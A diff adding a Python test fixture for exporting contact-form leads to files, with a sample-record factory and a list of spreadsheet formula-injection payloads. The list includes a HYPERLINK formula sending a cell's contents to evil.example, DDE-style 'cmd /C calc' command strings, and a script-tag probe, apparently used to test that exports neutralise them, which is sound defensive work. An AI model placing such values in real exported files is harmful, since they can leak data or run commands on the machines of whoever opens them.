@@ -1,0 +1,38 @@
+"""Queries as files hold them."""
+
+from datetime import UTC, datetime
+
+from app.forms.declared import CONTACT
+from app.queries.records import LeadRecord
+
+PAYLOADS = [
+    '=HYPERLINK("https://evil.example?x="&A1,"click")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "＝1+1",
+    '";=1+1',
+    "<script>alert(1)</script>",
+    'first line\nsecond, with "quotes"; and पूजा 🙂',
+    "control \x01 and _x0041_",
+]
+"""What a spreadsheet might run, or a file might not hold."""
+
+
+def lead(number: int = 0, /, **changes: object) -> LeadRecord:
+    """One as the store yields it for a file."""
+    values: dict[str, object] = {
+        "id": f"{number:024x}",
+        "form": CONTACT,
+        "name": f"Visitor {number}",
+        "email": "asha@example.in",
+        "phone": "+919876543210",
+        "message": None,
+        "created_at": datetime(2026, 4, 15, 20, 30, 5, 999, tzinfo=UTC),
+        "seen_at": None,
+        "suspected": False,
+        "notice_version": "2026-04",
+    }
+    return LeadRecord(**(values | changes))  # type: ignore[arg-type]
